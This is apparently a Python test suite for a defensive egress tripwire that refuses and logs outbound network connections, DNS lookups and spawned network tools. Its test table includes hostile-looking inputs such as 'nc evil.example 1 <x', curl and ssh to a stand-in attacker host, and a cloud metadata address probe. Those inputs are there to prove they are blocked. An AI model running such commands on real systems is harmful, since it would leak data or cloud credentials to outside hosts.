"""The tripwire in this process. What passes by it, and what stops that, is in adversarial/test_egress.py."""

import ctypes
import os
import socket
import subprocess
import threading
from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager

import pytest

from secure_ml.guard.egress import ATTEMPTS_REPORTED, Attempt, Destination, EgressRefused, tripwire

ELSEWHERE = "192.0.2.1"  # RFC 5737: nobody has it.


@contextmanager
def watched(*allowed: Destination) -> Iterator[list[Attempt]]:
    told: list[Attempt] = []
    with tripwire(allowed=allowed, report=told.append):
        yield told


def udp() -> socket.socket:
    return socket.socket(socket.AF_INET, socket.SOCK_DGRAM)


def tcp(host: str, port: int, *, family: socket.AddressFamily = socket.AF_INET) -> None:
    with socket.socket(family) as opened:
        opened.settimeout(0.2)
        opened.connect((host, port))


LEAVING: dict[str, tuple[Callable[[], object], Attempt]] = {
    "connect": (lambda: tcp(ELSEWHERE, 443), Attempt("connect", ELSEWHERE, 443)),
    "IPv6": (
        lambda: tcp("2001:db8::1", 443, family=socket.AF_INET6),
        Attempt("connect", "2001:db8::1", 443),
    ),
    "IPv4 in IPv6": (
        lambda: tcp(f"::ffff:{ELSEWHERE}", 443, family=socket.AF_INET6),
        Attempt("connect", ELSEWHERE, 443),
    ),
    "cloud metadata": (lambda: tcp("169.254.169.254", 80), Attempt("connect", "169.254.169.254", 80)),
    "create_connection": (
        lambda: socket.create_connection((ELSEWHERE, 443), 0.2),
        Attempt("connect", ELSEWHERE, 443),
    ),
    "sendto": (lambda: udp().sendto(b"x", (ELSEWHERE, 53)), Attempt("send", ELSEWHERE, 53)),
    "sendmsg": (lambda: udp().sendmsg([b"x"], [], 0, (ELSEWHERE, 53)), Attempt("send", ELSEWHERE, 53)),
    "broadcast": (lambda: udp().sendto(b"x", ("<broadcast>", 9)), Attempt("send", "<broadcast>", 9)),
    "getaddrinfo": (
        lambda: socket.getaddrinfo("9876-5432-1098.evil.example", 443),
        Attempt("look_up", "9876-5432-1098.evil.example"),
    ),
    "getaddrinfo in bytes": (lambda: socket.getaddrinfo(b"evil.example", 1), Attempt("look_up", "evil.example")),
    "below localhost": (lambda: socket.getaddrinfo("x.localhost", 1), Attempt("look_up", "x.localhost")),
    "gethostbyname": (lambda: socket.gethostbyname("Evil.example"), Attempt("look_up", "evil.example")),
    "gethostbyname_ex": (lambda: socket.gethostbyname_ex("evil.example"), Attempt("look_up", "evil.example")),
    "gethostbyaddr": (lambda: socket.gethostbyaddr(ELSEWHERE), Attempt("look_up", ELSEWHERE)),
    "getnameinfo": (lambda: socket.getnameinfo((ELSEWHERE, 80), 0), Attempt("look_up", ELSEWHERE)),
    "listen": (lambda: socket.create_server(("0.0.0.0", 0)), Attempt("listen", "0.0.0.0", 0)),
    "listen everywhere": (lambda: socket.create_server(("", 0)), Attempt("listen", "", 0)),
    "program": (lambda: subprocess.run(["curl", "https://evil.example"]), Attempt("program", "curl")),
    "program by path": (lambda: subprocess.run(["/usr/bin/wget", "-q", "x"]), Attempt("program", "wget")),
    "shell": (lambda: subprocess.run("true && nc evil.example 1 <x", shell=True), Attempt("program", "nc")),
    "system": (lambda: os.system("true; 'ssh' evil.example"), Attempt("program", "ssh")),
    "posix_spawn": (lambda: os.posix_spawn("/usr/bin/curl", ["curl"], {}), Attempt("program", "curl")),
    "exec": (lambda: os.execv("/nowhere/scp", ["scp"]), Attempt("program", "scp")),
    "ctypes": (lambda: ctypes.CDLL(None).connect, Attempt("symbol", "connect")),
    "ctypes in_dll": (lambda: ctypes.c_void_p.in_dll(ctypes.CDLL(None), "sendto"), Attempt("symbol", "sendto")),
}  # fmt: skip


@pytest.mark.parametrize("how", LEAVING)
def test_what_leaves_is_told_and_refused(how: str) -> None:
    act, expected = LEAVING[how]

    with watched() as told, pytest.raises(EgressRefused, match="refused, and the log has it") as refused:
        act()

    assert told == [expected]
    # A host name can carry a cell.
    assert not expected.host or expected.kind in ("program", "symbol") or expected.host not in str(refused.value)
    assert not expected.host or expected.host not in repr(expected)


def test_a_family_that_is_neither_unix_nor_internet_is_refused() -> None:
    with watched() as told, pytest.raises(EgressRefused), socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
        raw.bind(("lo", 0))
    assert told == [Attempt("listen", "")]


def test_loopback_unix_sockets_and_literal_addresses_pass() -> None:
    with watched() as told:
        for name in ("localhost", "127.0.0.1", "127.9.9.9", "::1", None, ELSEWHERE):
            assert socket.getaddrinfo(name, 80)
        with socket.create_server(("127.0.0.1", 0)) as server:
            tcp("localhost", server.getsockname()[1])
            tcp("0.0.0.0", server.getsockname()[1])
            udp().sendto(b"x", ("127.0.0.1", 9))
        left, right = socket.socketpair()
        left.sendmsg([b"x"])
        assert right.recv(1) == b"x"
        assert subprocess.run(["sh", "-c", "exit 3"], check=False).returncode == 3
        assert ctypes.CDLL(None).getpid() == os.getpid()
    assert told == []


def test_a_declared_destination_passes_and_its_neighbours_do_not() -> None:
    with watched(Destination("Keys.Example", 8200), Destination("192.0.2.7", None)) as told:
        for host, port in (("192.0.2.7", 1), ("192.0.2.7", 2)):
            with pytest.raises((TimeoutError, OSError)):
                tcp(host, port)
        with pytest.raises(socket.gaierror):
            socket.getaddrinfo("KEYS.example", 8200)
        assert told == []
        with pytest.raises(EgressRefused):
            tcp("192.0.2.8", 1)
        with pytest.raises(EgressRefused):
            socket.create_server(("192.0.2.7", 1))


def test_destinations_are_read_from_urls() -> None:
    assert Destination.of_url("https://Vault.Example:8200/v1") == Destination("vault.example", 8200)
    assert Destination.of_url("postgresql+psycopg2://me:secret@[2001:db8::1]/x") == Destination("2001:db8::1", None)
    for nowhere in ("sqlite:////srv/x.db", "", "https://keys.example:port/", "https://[::1/"):
        assert Destination.of_url(nowhere) is None


def test_blocks_that_overlap_do_not_loosen_each_other() -> None:
    with watched() as outer:
        with watched(Destination(ELSEWHERE, None)) as inner, pytest.raises(EgressRefused):
            tcp(ELSEWHERE, 443)
        with pytest.raises(EgressRefused):
            tcp(ELSEWHERE, 443)
    assert (len(outer), inner) == (1, [])


def test_nothing_is_refused_outside_a_block() -> None:
    with watched():
        pass
    with pytest.raises((TimeoutError, OSError)):
        tcp(ELSEWHERE, 443)


def test_a_block_ends_with_an_error_too() -> None:
    with pytest.raises(ZeroDivisionError), watched():
        raise ZeroDivisionError
    test_nothing_is_refused_outside_a_block()


def test_every_thread_is_watched() -> None:
    refused: list[EgressRefused] = []

    def reach_out() -> None:
        try:
            tcp(ELSEWHERE, 443)
        except EgressRefused as error:
            refused.append(error)

    with watched() as told:
        thread = threading.Thread(target=reach_out)
        thread.start()
        thread.join()
    assert (len(refused), told) == (1, [Attempt("connect", ELSEWHERE, 443)])


def test_an_attempt_is_told_once_and_a_loop_does_not_fill_the_log() -> None:
    with watched() as told:
        for _ in range(3):
            for index in range(ATTEMPTS_REPORTED + 20):
                with pytest.raises(EgressRefused):
                    socket.getaddrinfo(f"{index}.evil.example", 443)
    assert len(told) == len(set(told)) == ATTEMPTS_REPORTED


def test_a_forked_child_is_refused_and_its_attempt_told_by_the_parent() -> None:
    with watched() as told:
        child = os.fork()
        if not child:
            try:
                tcp(ELSEWHERE, 443)
            except EgressRefused:
                os._exit(7)
            os._exit(0)
        assert os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 7
        assert told == []
    assert told == [Attempt("connect", ELSEWHERE, 443)]


def test_a_child_that_outlives_the_block_is_still_refused() -> None:
    reading, writing = os.pipe()
    with watched():
        child = os.fork()
        if not child:
            os.read(reading, 1)
            try:
                tcp(ELSEWHERE, 443)
            except EgressRefused:
                os._exit(7)
            os._exit(0)
    os.write(writing, b"x")
    assert os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 7
    os.close(reading)
    os.close(writing)


def test_where_it_cannot_be_told_the_reason_is_raised_and_nothing_leaves() -> None:
    class LogIsAway(Exception):
        pass

    def report(attempt: Attempt) -> None:
        raise LogIsAway

    with tripwire(allowed=(), report=report), pytest.raises(LogIsAway):
        tcp(ELSEWHERE, 443)


def test_a_report_that_itself_reaches_out_is_refused_and_told_no_further() -> None:
    told: list[Attempt] = []

    def report(attempt: Attempt) -> None:
        told.append(attempt)
        tcp(ELSEWHERE, 80)

    with tripwire(allowed=(), report=report), pytest.raises(EgressRefused, match="port 80"):
        tcp(ELSEWHERE, 443)
    assert [attempt.port for attempt in told] == [443]


def test_the_hook_is_added_once_a_process() -> None:
    with ExitStack() as stack:
        told = [stack.enter_context(watched()) for _ in range(3)]
        with pytest.raises(EgressRefused):
            tcp(ELSEWHERE, 443)
    assert told == [[Attempt("connect", ELSEWHERE, 443)]] * 3
